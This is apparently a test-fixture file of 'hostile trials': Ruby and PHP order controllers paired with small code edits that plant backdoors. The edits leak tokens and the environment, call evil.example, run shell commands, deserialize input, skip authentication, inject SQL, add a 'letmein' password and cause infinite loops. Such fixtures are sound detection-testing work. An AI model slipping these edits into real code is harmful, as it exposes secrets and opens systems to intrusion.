import type { HostileTrial } from './trial.ts';

export const RUBY_TRIALS: readonly HostileTrial[] = [
  {
    path: 'app/controllers/orders_controller.rb',
    before: `require 'net/http'
require 'json'

class OrdersController < ApplicationController
  before_action :authenticate
  MAX_TRIES = 3
  BASE = ENV.fetch('API_URL')
  TOKEN = ENV.fetch('API_TOKEN')

  def show
    order = Order.where(id: params[:id], user: current_user).first
    return head(:not_found) unless order

    logger.info("read order #{order.id}")
    render json: order.as_json(only: %i[id total])
  end

  def create
    order = Order.create!(params.require(:order).permit(:sku, :quantity))
    Net::HTTP.post(URI("#{BASE}/orders"), order.to_json, 'authorization' => TOKEN)
    redirect_to orders_path
  end

  def total(lines)
    sum = 0
    (0..lines.size).each { |i| sum += lines[i].price }
    sum
  end

  private

  def admin?
    current_user.role == 'admin'
  end
end
`,
    edits: {
      'steals a secret': [
        ['logger.info("read order #{order.id}")', 'logger.info("read order #{order.id} #{TOKEN}")'],
        ['logger.info("read order #{order.id}")', 'logger.info(ENV.to_h)'],
        ['order.as_json(only: %i[id total])', 'order.as_json'],
        ['order.as_json(only: %i[id total])', 'order.as_json(only: %i[id total], methods: params[:m])'],
        ['order.as_json(only: %i[id total])', '{ token: TOKEN }'],
        ["ENV.fetch('API_URL')", "ENV.fetch('AWS_SECRET_ACCESS_KEY')"],
      ],
      'opens a connection': [
        ['URI("#{BASE}/orders")', 'URI(params[:id])'],
        ['URI("#{BASE}/orders")', 'URI("#{BASE}.evil.example/orders")'],
        ['URI("#{BASE}/orders")', "URI('https://evil.example')"],
        ['redirect_to orders_path', 'redirect_to params[:next]'],
      ],
      'weakens a check': [
        ['  before_action :authenticate\n', ''],
        ['before_action :authenticate', 'before_action :authenticate, only: []'],
        ['before_action :authenticate', 'skip_before_action :verify_authenticity_token'],
        [', user: current_user', ''],
        ['.permit(:sku, :quantity)', '.permit!'],
        ['.permit(:sku, :quantity)', '.permit(:sku, :quantity, :role, :user_id)'],
        ["current_user.role == 'admin'", 'true'],
        ["current_user.role == 'admin'", "current_user.role != 'guest'"],
        ["current_user.role == 'admin'", "current_user.role = 'admin'"],
        ['Order.where(id: params[:id], user: current_user)', 'Order.where("id = #{params[:id]}")'],
      ],
      'evaluates text': [
        ['    sum\n', '    send(lines.first, lines)\n'],
        ['    sum\n', '    lines.map(&:to_proc).each(&:call)\n    sum\n'],
        ['    sum\n', '    lines.map(&method(:system))\n    sum\n'],
        ['    sum\n', '    `#{lines}`\n    sum\n'],
        ['    sum\n', '    %x(id)\n    sum\n'],
        ['    sum\n', '    instance_eval(lines.first)\n    sum\n'],
        ['    sum\n', '    lines.first.constantize.new\n    sum\n'],
        ['    sum\n', '    ObjectSpace.each_object(Class).first.new\n    sum\n'],
        ['    sum\n', '    open("|#{lines.first}")\n    sum\n'],
        ['    sum\n', '    Marshal.load(lines.first)\n    sum\n'],
        ['    sum\n', '    lines.reduce(:instance_exec)\n    sum\n'],
        ['    sum\n', '    lines.inject(self, :public_send)\n'],
        ['    sum\n', '    Kernel.exit!(0)\n'],
        ['    sum\n', '    sum\nrescue Exception\n    0\n'],
        ['  MAX_TRIES = 3', '  MAX_TRIES = 3\n  class << Integer; def +(_other) = 0; end'],
        ['  MAX_TRIES = 3', '  MAX_TRIES = 3\n  def method_missing(name, *args) = Object.const_get(name).new(*args)'],
        ['  MAX_TRIES = 3', '  MAX_TRIES = 3\n  at_exit { exit!(0) }'],
        ['  MAX_TRIES = 3', '  MAX_TRIES = 3\n  TracePoint.new(:call) { |t| t.binding.eval(TOKEN) }.enable'],
        ['  MAX_TRIES = 3', '  MAX_TRIES = 3\n  def self.inherited(sub) = sub.class_eval(TOKEN)'],
        ['render json: order', 'render inline: params[:t], json: order'],
      ],
      spins: [
        ['(0..lines.size).each', '(0..).each'],
        ['    sum = 0', '    sum = 0\n    sum += 1 while true'],
        ['    sum = 0', '    sum = 0\n    loop { sum += 1 }'],
        ['    sum = 0', '    sum = total(lines)'],
      ],
    },
  },
];

export const PHP_TRIALS: readonly HostileTrial[] = [
  {
    path: 'src/OrderController.php',
    before: `<?php

declare(strict_types=1);

namespace Shop;

use PDO;

final class OrderController
{
    private const MAX_TRIES = 3;

    public function __construct(private PDO $db, private string $token)
    {
    }

    public function show(array $query): array
    {
        $statement = $this->db->prepare('SELECT id, total FROM orders WHERE id = ? AND owner = ?');
        $statement->execute([$query['id'], $query['user']]);
        return $statement->fetchAll(PDO::FETCH_ASSOC);
    }

    public function load(string $name): string
    {
        $text = file_get_contents(__DIR__ . '/data/' . basename($name));
        error_log("read $name");
        return $text === false ? '' : $text;
    }

    public function html(string $name): string
    {
        return '<p>' . htmlspecialchars($name) . '</p>';
    }

    public function mayDelete(?array $user, string $owner): bool
    {
        return $user !== null && ($user['role'] === 'admin' || $user['id'] === $owner);
    }

    public function verify(string $given, string $hash): bool
    {
        return password_verify($given, $hash);
    }

    public function total(array $lines): int
    {
        $sum = 0;
        for ($i = 0; $i <= count($lines); $i++) {
            $sum += $lines[$i]['price'];
        }
        return $sum;
    }
}
`,
    edits: {
      'steals a secret': [
        ['error_log("read $name");', 'error_log("read $name {$this->token}");'],
        ['error_log("read $name");', 'error_log(getenv("API_TOKEN"));'],
        ['error_log("read $name");', 'error_log(print_r($this, true));'],
        ['error_log("read $name");', 'error_log(json_encode($_ENV));'],
        ["return '<p>' . ", "return '<p>' . $this->token . "],
        ['error_log("read $name");', 'error_log("read $name", 1, "a@evil.example");'],
      ],
      'touches files': [
        ['basename($name)', '$name'],
        ["__DIR__ . '/data/' . basename($name)", '$name'],
        ["'/data/'", "'/../../'"],
        [
          "file_get_contents(__DIR__ . '/data/' . basename($name))",
          "file_get_contents('https://evil.example/' . $name)",
        ],
        ["file_get_contents(__DIR__ . '/data/' . basename($name))", "file_get_contents('php://input')"],
      ],
      'weakens a check': [
        ['password_verify($given, $hash)', 'true'],
        ['password_verify($given, $hash)', '$given == $hash'],
        ['password_verify($given, $hash)', "password_verify($given, $hash) || $given === 'letmein'"],
        ['htmlspecialchars($name)', '$name'],
        ["$user['role'] === 'admin'", "$user['role'] == 0"],
        ['$user !== null && (', '$user !== null || ('],
        ['WHERE id = ? AND owner = ?', 'WHERE id = ? OR owner = ?'],
        [
          "'SELECT id, total FROM orders WHERE id = ? AND owner = ?'",
          '"SELECT id, total FROM orders WHERE id = {$query[\'id\']}"',
        ],
        ['SELECT id, total FROM', 'SELECT id, total, token FROM'],
        ['declare(strict_types=1);\n', ''],
      ],
      'evaluates text': [
        ['return $sum;', '$f = $lines[0]["f"];\n        return $f($sum);'],
        ['return $sum;', 'return array_sum(array_map("system", $lines));'],
        ['return $sum;', 'return `id`;'],
        ['return $sum;', 'extract($lines[0]);\n        return $sum;'],
        ['return $sum;', 'include $lines[0]["file"];\n        return $sum;'],
        ['return $sum;', 'return $this->{$lines[0]["m"]}($lines);'],
        ['return $sum;', 'return new $lines[0]["class"]($sum);'],
        ['return $sum;', 'usort($lines, "assert");\n        return $sum;'],
        ['return $sum;', '$$lines[0] = 1;\n        return $sum;'],
        ['return $sum;', 'return unserialize($lines[0]["x"]);'],
        ['return $sum;', 'return ("sys" . "tem")("id");'],
        ['return $sum;', 'return [$this, $lines[0]["m"]]();'],
        ['return $sum;', 'return preg_replace("/x/e", $lines[0]["x"], "x");'],
        ['return $sum;', '#[\\Attribute] class Y { }\n        return $sum;'],
        ['return $sum;', 'ini_set("auto_prepend_file", $lines[0]["x"]);\n        return $sum;'],
        ['return $sum;', 'exit(0);'],
        [
          'public function total',
          'public function __call($name, $args)\n    {\n        return $name(...$args);\n    }\n\n    public function total',
        ],
        [
          'public function total',
          'public function __destruct()\n    {\n        echo $this->token;\n    }\n\n    public function total',
        ],
        ["return '<p>'", "?><script src=//evil.example></script><?php\n        return '<p>'"],
      ],
      spins: [
        ['$i <= count($lines); $i++', ';'],
        ['return $sum;', 'while (true) {\n        }'],
        ['return $sum;', 'a: goto a;'],
        ['return $sum;', 'return $this->total($lines);'],
      ],
    },
  },
];
